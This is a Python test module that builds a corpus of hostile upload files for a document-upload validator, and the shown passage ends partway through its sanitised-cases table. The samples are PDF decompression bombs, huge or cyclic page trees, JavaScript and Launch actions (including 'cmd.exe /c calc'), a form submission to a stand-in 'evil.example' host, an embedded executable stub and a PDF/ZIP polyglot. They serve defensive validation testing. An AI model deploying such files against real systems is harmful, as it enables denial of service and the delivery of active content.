"""Generated test corpus of good and hostile upload files (PDF, JPEG, PNG and impostors).

Every factory returns bytes. HOSTILE_CASES maps a case name to (factory, expected HTTP status,
expected rejection code) so that unit tests and HTTP tests share one table.
"""

from __future__ import annotations

import functools
import io
import re
import shutil
import struct
import subprocess
import tempfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject

MB = 1_000_000


# --- good files -------------------------------------------------------------------------


def _content_stream(text: str) -> DecodedStreamObject:
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode("latin-1"))
    return stream


def pdf_pages(count: int = 1, label: str = "page") -> bytes:
    """A valid PDF with `count` letter-size pages, each with a line of text."""
    writer = PdfWriter()
    font = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
    )
    for number in range(1, count + 1):
        page = writer.add_blank_page(612, 792)
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
        )
        page[NameObject("/Contents")] = writer._add_object(_content_stream(f"{label} {number}"))
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def jpeg(width: int = 400, height: int = 300, exif_orientation: int | None = None) -> bytes:
    image = Image.new("RGB", (width, height), (200, 30, 30))
    for x in range(0, width, 7):
        image.putpixel((x, x % height), (0, 0, 0))
    buffer = io.BytesIO()
    if exif_orientation is None:
        image.save(buffer, "JPEG", quality=85)
    else:
        exif = Image.Exif()
        exif[0x0112] = exif_orientation
        image.save(buffer, "JPEG", quality=85, exif=exif.tobytes())
    return buffer.getvalue()


def png(width: int = 300, height: int = 200, mode: str = "RGB") -> bytes:
    color: tuple[int, ...] | int
    if mode == "RGBA":
        color = (10, 120, 200, 128)
    elif mode in ("L", "P"):
        color = 90
    elif mode == "I;16":
        color = 30000
    else:
        color = (10, 120, 200)
    image = Image.new(mode, (width, height), color)
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def png_palette_with_alpha() -> bytes:
    image = Image.new("P", (64, 64), 1)
    image.putpalette([255, 255, 255, 200, 0, 0] + [0] * 762)
    buffer = io.BytesIO()
    image.save(buffer, "PNG", transparency=0)
    return buffer.getvalue()


def jpeg_cmyk() -> bytes:
    buffer = io.BytesIO()
    Image.new("CMYK", (120, 80), (0, 200, 200, 0)).save(buffer, "JPEG")
    return buffer.getvalue()


def big_pdf(target_bytes: int = 11 * MB) -> bytes:
    """A valid one-page PDF padded with an unreferenced incompressible stream to the size."""
    base = pdf_pages(1)
    # A comment line before the trailer-less tail keeps the file valid but large.
    padding = b"%" + b"x" * (target_bytes - len(base)) + b"\n"
    return base + padding


# --- hand-written raw PDFs --------------------------------------------------------------


def raw_pdf(objects: list[bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF from object bodies numbered 1..n, with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\n" % (len(objects) + 1, root, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def object_stream_pdf(
    objects: list[bytes], packed: set[int], listed_free: frozenset[int] = frozenset()
) -> bytes:
    """A PDF 1.5 file from object bodies numbered 1..n: those numbered in `packed` go into one
    compressed object stream (object n+1), the others are written plain; a cross-reference
    stream (object n+2) lists them all, those in `listed_free` as free (deleted) entries."""
    stream_number, xref_number = len(objects) + 1, len(objects) + 2
    header, bodies = bytearray(), bytearray()
    entries = [(0, 0, 65535)] + [(1, 0, 0)] * (xref_number)
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    for number, body in enumerate(objects, start=1):
        if number in packed:
            entries[number] = (2, stream_number, len(header.split()) // 2)
            header += b"%d %d " % (number, len(bodies))
            bodies += body + b"\n"
        else:
            entries[number] = (1, len(out), 0)
            out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    entries[stream_number] = (1, len(out), 0)
    packed_data = zlib.compress(bytes(header + bodies))
    out += b"%d 0 obj\n" % stream_number + _stream(
        b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(header)),
        packed_data,
    )
    out += b"\nendobj\n"
    entries[xref_number] = (1, len(out), 0)
    for number in listed_free:
        entries[number] = (0, 0, 0)
    table = b"".join(struct.pack(">BIH", *entry) for entry in entries)
    out += b"%d 0 obj\n" % xref_number + _stream(
        b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1), table
    )
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % entries[xref_number][1]
    return bytes(out)


def packed_pdf() -> bytes:
    """The simple one-page file with its catalog, page tree and page in an object stream."""
    return object_stream_pdf(_simple_objects(), packed={1, 2, 3})


# The object hidden_action_pdf() hides in its object stream, referenced from nowhere.
HIDDEN_OBJECT = 7


def hidden_action_pdf(listed_free: frozenset[int] = frozenset()) -> bytes:
    """A script behind a page's link and a Launch action referenced from nowhere, both packed
    in an object stream (where only a scan that opens object streams sees them)."""
    objects = [
        *_simple_objects(page_extra=b"/Annots [5 0 R]"),
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 6 0 R >>",
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>",
        b"<< /Type /Action /S /Launch /F (cmd.exe) >>",
    ]
    return object_stream_pdf(
        objects, packed={1, 2, 3, 5, 6, HIDDEN_OBJECT}, listed_free=listed_free
    )


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


_PAGE_CONTENT = b"BT /F1 12 Tf 72 720 Td (hello) Tj ET"


def _simple_objects(page_extra: bytes = b"", catalog_extra: bytes = b"") -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        + page_extra
        + b">>",
        _stream(b"", _PAGE_CONTENT),
    ]


def truncated_pdf() -> bytes:
    whole = pdf_pages(3)
    return whole[: len(whole) // 2]


def garbage_after_header() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 40


def broken_xref() -> bytes:
    good = raw_pdf(_simple_objects())
    # Point startxref into the middle of an object and scramble the xref table.
    head, _, _ = good.rpartition(b"startxref")
    head = head.replace(b"xref\n0 5", b"xref\n0 9").replace(b" n \n", b" q \n")
    return head + b"startxref\n17\n%%EOF\n"


def cyclic_page_tree() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        # The inner node lists its own parent as a kid: the tree is a cycle.
        b"<< /Type /Pages /Kids [3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [4 0 R 2 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>",
        _stream(b"", _PAGE_CONTENT),
    ]
    return raw_pdf(objects)


def page_tree_root_mistyped() -> bytes:
    """Valid kids under a root whose /Type is damaged: pypdf then lists no pages at all."""
    objects = _simple_objects()
    objects[1] = objects[1].replace(b"/Type /Pages", b"/Type /Pagbs")
    return raw_pdf(objects)


@functools.lru_cache(maxsize=4)
def _deflated_spaces(inflated_bytes: int) -> bytes:
    compressor = zlib.compressobj(9)
    chunk = b" " * (4 * 1024 * 1024)
    parts = []
    for _ in range(inflated_bytes // len(chunk)):
        parts.append(compressor.compress(chunk))
    parts.append(compressor.flush())
    return b"".join(parts)


@functools.lru_cache(maxsize=4)
def flate_bomb(inflated_bytes: int = 1024 * 1024 * 1024) -> bytes:
    """A one-page PDF whose content stream inflates to `inflated_bytes` (1 GiB) of spaces."""
    objects = _simple_objects()
    objects[3] = _stream(b"/Filter /FlateDecode", _deflated_spaces(inflated_bytes))
    return raw_pdf(objects)


def many_small_streams_bomb(streams: int = 12, each: int = 10 * MB) -> bytes:
    """Each stream is under any per-stream limit, their total is not."""
    compressor_data = zlib.compress(b"\0" * each, 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ["
        + b" ".join(b"%d 0 R" % (4 + index) for index in range(streams))
        + b"] >>",
    ]
    objects += [_stream(b"/Filter /FlateDecode", compressor_data) for _ in range(streams)]
    return raw_pdf(objects)


def _page_with_resources(resources: bytes, extra_objects: list[bytes]) -> bytes:
    """One page (objects 1-4) whose /Resources are `resources`, then `extra_objects` from 5."""
    objects = _simple_objects(page_extra=b"/Resources " + resources + b" ")
    return raw_pdf(objects + extra_objects)


# A font program's first bytes (a TrueType header): what a viewer hands its font engine.
_FONT_PROGRAM = b"\x00\x01\x00\x00\x00\x0bGSUB" + bytes(range(64))


def embedded_font_pdf(key: bytes = b"/FontFile2") -> bytes:
    """A page whose text is set in a font with its program embedded (/FontFile: Type 1,
    /FontFile2: TrueType, /FontFile3: CFF or OpenType): officers' viewers would parse it."""
    return _page_with_resources(
        b"<< /Font << /F1 5 0 R >> >>",
        [
            b"<< /Type /Font /Subtype /TrueType /BaseFont /ABCDEF+Applicant /FirstChar 32"
            b" /LastChar 32 /Widths [500] /FontDescriptor 6 0 R >>",
            b"<< /Type /FontDescriptor /FontName /ABCDEF+Applicant /Flags 32"
            b" /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200"
            b" /CapHeight 700 /StemV 80 " + key + b" 7 0 R >>",
            _stream(b"/Length1 %d" % len(_FONT_PROGRAM), _FONT_PROGRAM),
        ],
    )


def font_in_form_pdf() -> bytes:
    """The embedded font one level down: in a form XObject's resources, not the page's."""
    return _page_with_resources(
        b"<< /XObject << /Fm0 5 0 R >> >>",
        [
            _stream(
                b"/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
                b" /Resources << /Font << /F1 6 0 R >> >>",
                _PAGE_CONTENT,
            ),
            b"<< /Type /Font /Subtype /Type0 /BaseFont /ABCDEF+Applicant /Encoding /Identity-H"
            b" /DescendantFonts [7 0 R] >>",
            b"<< /Type /Font /Subtype /CIDFontType0 /BaseFont /ABCDEF+Applicant"
            b" /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >>"
            b" /FontDescriptor 8 0 R >>",
            b"<< /Type /FontDescriptor /FontName /ABCDEF+Applicant /Flags 32"
            b" /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200"
            b" /CapHeight 700 /StemV 80 /FontFile3 9 0 R >>",
            _stream(b"/Subtype /CIDFontType0C", _FONT_PROGRAM),
        ],
    )


def image_codec_pdf(filters: bytes = b"/JBIG2Decode") -> bytes:
    """A page showing an image XObject in the codec `filters` names (JBIG2, JPEG 2000)."""
    return _page_with_resources(
        b"<< /XObject << /Im0 5 0 R >> >>",
        [
            _stream(
                b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray"
                b" /BitsPerComponent 1 /Filter " + filters,
                b"\x97JB2\r\n\x1a\n" + bytes(range(48)),
            )
        ],
    )


def jbig2_pdf() -> bytes:
    return image_codec_pdf(b"/JBIG2Decode")


def jpx_pdf() -> bytes:
    return image_codec_pdf(b"[/FlateDecode /JPXDecode]")


def inline_jpx_pdf() -> bytes:
    """A JPEG 2000 image inline in the page's content (BI ... ID ... EI), its filter name
    written with a #-escape (/JPX#44ecode is /JPXDecode to every reader), deflated."""
    content = b"q 8 0 0 8 0 0 cm BI /W 8 /H 8 /CS /G /BPC 8 /F /JPX#44ecode ID "
    content += b"\x00\x00\x00\x0cjP  \r\n\x87\n" + b"\x00" * 32 + b" EI Q"
    objects = _simple_objects()
    objects[3] = _stream(b"/Filter /FlateDecode", zlib.compress(content))
    return raw_pdf(objects)


_FONT_OBJECTS = [
    # Object numbers as placed by _font_pages(): the font, its descriptor, its program.
    b"<< /Type /Font /Subtype /TrueType /BaseFont /ABCDEF+Applicant /FirstChar 32"
    b" /LastChar 32 /Widths [500] /FontDescriptor %d 0 R >>",
    b"<< /Type /FontDescriptor /FontName /ABCDEF+Applicant /Flags 32"
    b" /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200"
    b" /CapHeight 700 /StemV 80 /FontFile2 %d 0 R >>",
    _stream(b"/Length1 %d" % len(_FONT_PROGRAM), _FONT_PROGRAM),
]


def _font_pages(
    boxes: list[bytes], content_stream: bytes | None = None, declared: int | None = None
) -> bytes:
    """Pages with the MediaBoxes `boxes` (in order), each showing text in one embedded
    TrueType font; `content_stream` (a whole stream object) replaces their shared content;
    the page tree declares `declared` pages (default: as many as there are)."""
    count = len(boxes)
    content, font = 3 + count, 4 + count
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>"
        % (b" ".join(b"%d 0 R" % (3 + index) for index in range(count)), declared or count),
    ]
    objects += [
        b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents %d 0 R"
        b" /Resources << /Font << /F1 %d 0 R >> >> >>" % (box, content, font)
        for box in boxes
    ]
    objects.append(content_stream or _stream(b"", _PAGE_CONTENT))
    objects += [
        _FONT_OBJECTS[0] % (font + 1),
        _FONT_OBJECTS[1] % (font + 2),
        _FONT_OBJECTS[2],
    ]
    return raw_pdf(objects)


# Page sizes in points: A4 portrait, a landscape letter page, a small receipt.
FONT_PAGE_SIZES = [(595, 842), (792, 612), (226, 400)]


def embedded_font_pages_pdf() -> bytes:
    """Three pages of different sizes (FONT_PAGE_SIZES, in that order), with an embedded font:
    rasterised, they keep their order and their sizes."""
    return _font_pages([b"[0 0 %d %d]" % size for size in FONT_PAGE_SIZES])


def embedded_font_poster_pdf(width: int = 4000, height: int = 4000) -> bytes:
    """One page `width` x `height` points (4000 x 4000: 8333 pixels a side at 150 dpi, 69
    megapixels) with an embedded font: rasterised, it must be scaled down to the pixel limit."""
    return _font_pages([b"[0 0 %d %d]" % (width, height)])


def embedded_font_flate_bomb() -> bytes:
    """An embedded font and a content stream inflating to 256 MB: refused as a bomb, never
    handed to the renderer."""
    bomb = _stream(b"/Filter /FlateDecode", _deflated_spaces(256 * MB))
    return _font_pages([b"[0 0 612 792]"], content_stream=bomb)


def embedded_font_wide_page_tree(leaves: int = 40_000) -> bytes:
    """40,000 pages with an embedded font under a root declaring one: refused by the page
    limit, counted from the tree, before anything renders."""
    return _font_pages([b"[0 0 9 9]"] * leaves, declared=1)


def embedded_font_miscounted_pages() -> bytes:
    """Two pages with an embedded font under a root declaring three: pypdf reads the two
    pages, pdfium believes the count. Refused (pdf_damaged): what the renderer would draw is
    not the document pypdf checked."""
    return _font_pages([b"[0 0 612 792]"] * 2, declared=3)


def embedded_font_slow_render(fills: int = 300_000) -> bytes:
    """An embedded font and 300,000 overlapping half-page fills in 45 KB (6 MB inflated, well
    within the budget): minutes of work for a renderer. Cut at the worker's CPU and wall-clock
    limits like any other parser stuck on a file."""
    operations = b"".join(
        b"%d %d 500 500 re f\n" % (index % 600, index * 7 % 700) for index in range(fills)
    )
    content = _stream(b"/Filter /FlateDecode", zlib.compress(operations, 9))
    return _font_pages([b"[0 0 612 792]"], content_stream=content)


_CHROMIUM = "/usr/bin/chromium"
CHROMIUM_PAGES = 3


@functools.lru_cache(maxsize=1)
def chromium_pdf() -> bytes | None:
    """A real word-processor-like PDF: three pages of text printed by Chromium, which embeds
    TrueType subsets of the fonts it used (/FontFile2). None where Chromium is absent."""
    if not shutil.which(_CHROMIUM):
        return None
    pages = "".join(
        f'<section style="page-break-after: always"><h1>Surat Keterangan Kerja</h1>'
        f"<p>Halaman {number}: Dengan ini kami menerangkan bahwa yang bersangkutan telah "
        f"bekerja pada perusahaan kami. Ærø ąčę ß €</p></section>"
        for number in range(1, CHROMIUM_PAGES + 1)
    )
    html = f'<!doctype html><html><head><meta charset="utf-8"></head><body>{pages}</body></html>'
    with tempfile.TemporaryDirectory(prefix="jht-chromium-") as folder:
        source, output = Path(folder) / "letter.html", Path(folder) / "letter.pdf"
        source.write_text(html, encoding="utf-8")
        subprocess.run(
            [
                _CHROMIUM,
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--no-pdf-header-footer",
                f"--user-data-dir={folder}/profile",
                f"--print-to-pdf={output}",
                str(source),
            ],
            check=True,
            capture_output=True,
            timeout=120,
        )
        return output.read_bytes()


def font_programs(pdf: bytes) -> list[str]:
    """The keys of every embedded font program in a PDF (plain or in object streams)."""
    reader = PdfReader(io.BytesIO(pdf))
    numbers = {number for entries in reader.xref.values() for number in entries}
    found = []
    for number in sorted(numbers | set(reader.xref_objStm)):
        obj = reader.get_object(number)
        if isinstance(obj, DictionaryObject):
            found += [key for key in ("/FontFile", "/FontFile2", "/FontFile3") if key in obj]
    return found


_TOKEN = re.compile(rb"/?[^\s/\[\]()<>]+")
_IMAGE_PAGE_OPERATORS = {b"q", b"Q", b"cm", b"Do"}


def image_only_findings(pdf: bytes) -> list[str]:
    """Why a PDF's pages are not just images: [] when no font is named or embedded anywhere in
    it, every page's only resources are JPEG or Flate images, and its content does nothing but
    draw them (q, cm, Do, Q)."""
    found = [name for name in ("/Font", "/JBIG2Decode", "/JPXDecode") if name.encode() in pdf]
    found += font_programs(pdf)
    for number, page in enumerate(PdfReader(io.BytesIO(pdf)).pages, start=1):
        resources = page.get("/Resources", DictionaryObject()).get_object()
        found += [f"page {number}: {key}" for key in resources if key != "/XObject"]
        images = resources.get("/XObject", DictionaryObject()).get_object()
        if not images:
            found.append(f"page {number}: no image")
        for name, reference in images.items():
            image = reference.get_object()
            filters = image.get("/Filter")
            names = list(filters) if isinstance(filters, ArrayObject) else [filters]
            if image.get("/Subtype") != "/Image" or not set(names) <= {
                "/DCTDecode",
                "/FlateDecode",
            }:
                found.append(f"page {number}: {name} {image.get('/Subtype')} {names}")
        contents = page.get_contents()
        tokens = _TOKEN.findall(contents.get_data() if contents is not None else b"")
        operators = {token for token in tokens if not token.startswith(b"/")}
        operators = {op for op in operators if not re.fullmatch(rb"[-+.0-9]+", op)}
        if not operators <= _IMAGE_PAGE_OPERATORS:
            found.append(f"page {number}: content operators {sorted(operators)}")
    return found


def wide_page_tree(leaves: int = 40_000, declared: int = 1) -> bytes:
    """A page tree with `leaves` distinct pages under one node that declares /Count
    `declared`: pypdf would build a page object for every leaf before anyone counted them."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids ["
        + b" ".join(b"%d 0 R" % (4 + index) for index in range(leaves))
        + b"] /Count %d >>" % declared,
        _stream(b"", _PAGE_CONTENT),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 3 0 R >>"] * leaves
    return raw_pdf(objects)


def declared_page_count(count: int = 1_000_000) -> bytes:
    """One real page under a root that declares `count` pages (a viewer may believe it)."""
    objects = _simple_objects()
    objects[1] = objects[1].replace(b"/Count 1", b"/Count %d" % count)
    return raw_pdf(objects)


@functools.lru_cache(maxsize=2)
def double_flate_bomb(inflated_bytes: int = 256 * MB) -> bytes:
    """A content stream deflated twice ([/FlateDecode /FlateDecode]): its first stage is a
    small deflated file, its second `inflated_bytes` of spaces."""
    compressor = zlib.compressobj(9)
    chunk = b" " * (4 * MB)
    inner = b"".join(compressor.compress(chunk) for _ in range(inflated_bytes // len(chunk)))
    inner += compressor.flush()
    objects = _simple_objects()
    objects[3] = _stream(b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(inner, 9))
    return raw_pdf(objects)


def long_length() -> bytes:
    objects = _simple_objects()
    objects[3] = b"<< /Length 99999999999999 >>\nstream\n" + _PAGE_CONTENT + b"\nendstream"
    return raw_pdf(objects)


def _encrypted(
    user_password: str,
    owner_password: str,
    original: bytes | None = None,
    algorithm: str = "AES-128",
) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(original or pdf_pages(2)))
    writer.encrypt(user_password=user_password, owner_password=owner_password, algorithm=algorithm)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def user_password_pdf() -> bytes:
    return _encrypted("rahasia", "pemilik")


def owner_password_only_pdf() -> bytes:
    return _encrypted("", "pemilik")


def embedded_font_owner_password_only_pdf() -> bytes:
    """What banks send: statements with embedded fonts, printing and copying restricted by an
    owner password (AES-256), opened without one."""
    return _encrypted("", "pemilik", embedded_font_pages_pdf(), "AES-256")


def javascript_pdf() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript 6 0 R >>"
        b" /AA << /WC 5 0 R >> /AcroForm << /Fields [] /XFA 8 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /AA << /O 5 0 R >> /Annots [7 0 R] >>",
        _stream(b"", _PAGE_CONTENT),
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('pwned'\\)) >>",
        b"<< /Names [(x) 5 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100]"
        b" /A << /S /JavaScript /JS (app.alert\\(1\\)) /Next 5 0 R >> /AA << /E 5 0 R >> >>",
        _stream(b"", b"<xdp:xdp></xdp:xdp>"),
    ]
    return raw_pdf(objects)


def launch_pdf() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Annots [6 0 R 7 0 R] >>",
        _stream(b"", _PAGE_CONTENT),
        b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 5 0 R >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 100 100 200]"
        b" /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >> >>",
    ]
    return raw_pdf(objects)


def embedded_file_pdf() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(evil.exe) 5 0 R] >>"
        b" >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Annots [7 0 R 8 0 R] >>",
        _stream(b"", _PAGE_CONTENT),
        b"<< /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>",
        _stream(b"/Type /EmbeddedFile", b"MZ\x90\x00 not really an exe"),
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>",
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10]"
        b" /RichMediaContent << /Assets << /Names [(a.swf) 5 0 R] >> >> >>",
    ]
    return raw_pdf(objects)


def indirect_action_pdf() -> bytes:
    """A Launch action whose type name sits behind an indirect reference (/S 7 0 R)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R] >>",
        _stream(b"", _PAGE_CONTENT),
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 6 0 R >>",
        b"<< /Type /Action /S 7 0 R /F (cmd.exe) >>",
        b"/Launch",
    ]
    return raw_pdf(objects)


def upward_key_payload_pdf() -> bytes:
    """Script hidden in a direct dictionary under /P, a key the walk never follows."""
    objects = _simple_objects(
        page_extra=b"/Annots [<< /Type /Annot /Subtype /Text /Rect [0 0 9 9]"
        b" /P << /S /JavaScript /JS (app.alert\\(1\\)) >> >>]"
    )
    return raw_pdf(objects)


def inherited_attributes_pdf() -> bytes:
    """Two pages that take their /MediaBox, /Resources and /Rotate from the /Pages node."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /MediaBox [0 0 300 400] /Rotate 90"
        b" /Resources << /Font << /F1 7 0 R >> >> >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>",
        b"<< /Type /Page /Parent 2 0 R /Contents 6 0 R >>",
        _stream(b"", b"BT /F1 12 Tf 20 300 Td (inherited 1) Tj ET"),
        _stream(b"", b"BT /F1 12 Tf 20 300 Td (inherited 2) Tj ET"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return raw_pdf(objects)


def linked_pages_pdf() -> bytes:
    """Page 1 links to page 2 (/Dest) and its annotation names its page (/P)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /Annots [6 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>",
        _stream(b"", _PAGE_CONTENT),
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /P 3 0 R /Dest [4 0 R /Fit] >>",
    ]
    return raw_pdf(objects)


def pdf_2_0() -> bytes:
    """A one-page file declaring PDF 2.0 in its header."""
    return raw_pdf(_simple_objects()).replace(b"%PDF-1.7", b"%PDF-2.0", 1)


def pdf_zip_polyglot() -> bytes:
    buffer = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.exe", b"MZ" + b"\0" * 200)
    return pdf_pages(1) + buffer.getvalue()


def exe_file() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 500 + b"This program cannot be run"


def zip_file() -> bytes:
    buffer = io.BytesIO()
    import zipfile

    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("ktp.pdf", pdf_pages(1))
    return buffer.getvalue()


def text_file() -> bytes:
    return b"Nama: Budi\nNIK: 3171234567890001\n"


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def huge_png(width: int = 20000, height: int = 20000) -> bytes:
    """A PNG whose header claims width x height pixels; the data is a tiny stub."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\0" * 1024))
        + _png_chunk(b"IEND", b"")
    )


def empty() -> bytes:
    return b""


# --- the shared table --------------------------------------------------------------------


class HostileCase(NamedTuple):
    factory: Callable[[], bytes]
    status: int
    code: str


# Single-file cases: upload this file alone and expect the status and code.
HOSTILE_CASES: dict[str, HostileCase] = {
    "empty": HostileCase(empty, 422, "empty_file"),
    "truncated": HostileCase(truncated_pdf, 422, "pdf_damaged"),
    "garbage_after_header": HostileCase(garbage_after_header, 422, "pdf_damaged"),
    "broken_xref": HostileCase(broken_xref, 422, "pdf_damaged"),
    "cyclic_page_tree": HostileCase(cyclic_page_tree, 422, "pdf_damaged"),
    "page_tree_root_mistyped": HostileCase(page_tree_root_mistyped, 422, "pdf_damaged"),
    "flate_bomb_1gb": HostileCase(flate_bomb, 422, "pdf_bomb"),
    "many_streams_bomb": HostileCase(many_small_streams_bomb, 422, "pdf_bomb"),
    "long_length": HostileCase(long_length, 422, "pdf_damaged"),
    "user_password": HostileCase(user_password_pdf, 422, "pdf_password_protected"),
    "exe": HostileCase(exe_file, 415, "unsupported_type"),
    "zip_named_pdf": HostileCase(zip_file, 415, "unsupported_type"),
    "text": HostileCase(text_file, 415, "unsupported_type"),
    "png_20000x20000": HostileCase(huge_png, 422, "image_too_large"),
    "pages_31": HostileCase(functools.partial(pdf_pages, 31), 422, "too_many_pages"),
    "file_11mb": HostileCase(big_pdf, 413, "file_too_large"),
    # Rasterised files are checked like any other PDF first: a bomb or a page tree beyond
    # the limit with a font in it is refused before the renderer sees it.
    "embedded_font_flate_bomb": HostileCase(embedded_font_flate_bomb, 422, "pdf_bomb"),
    "embedded_font_page_tree_40000_leaves": HostileCase(
        embedded_font_wide_page_tree, 422, "too_many_pages"
    ),
    "embedded_font_miscounted_pages": HostileCase(
        embedded_font_miscounted_pages, 422, "pdf_damaged"
    ),
    "page_tree_40000_leaves": HostileCase(wide_page_tree, 422, "too_many_pages"),
    "declared_count_1000000": HostileCase(declared_page_count, 422, "too_many_pages"),
    "double_flate_bomb": HostileCase(double_flate_bomb, 422, "pdf_bomb"),
}

# Files that are accepted, but only after active content is stripped (or foreign data dropped).
SANITISED_CASES: dict[str, Callable[[], bytes]] = {
    "javascript": javascript_pdf,
    "launch": launch_pdf,
    "embedded_file": embedded_file_pdf,
    "pdf_zip_polyglot": pdf_zip_polyglot,
